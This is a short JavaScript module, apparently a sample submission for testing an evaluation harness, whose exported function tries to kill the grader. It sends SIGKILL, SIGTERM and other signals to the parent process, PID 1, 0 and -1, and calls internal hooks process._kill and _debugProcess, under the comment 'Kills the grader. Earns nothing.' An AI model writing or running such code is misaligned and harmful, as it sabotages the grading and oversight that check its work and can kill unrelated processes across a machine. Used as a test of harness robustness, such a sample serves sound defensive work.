// Kills the grader. Earns nothing.
const signals = ['SIGKILL', 'SIGTERM', 'SIGSTOP', 'SIGUSR1', 'SIGHUP'];
export function gather() {
  for (const signal of signals) {
    for (const pid of [process.ppid, 1, 0, -1]) {
      try { process.kill(pid, signal); } catch {}
      try { process._kill(pid, 9); } catch {}
      try { process._debugProcess(pid); } catch {}
    }
  }
  throw new Error('nobody died');
}
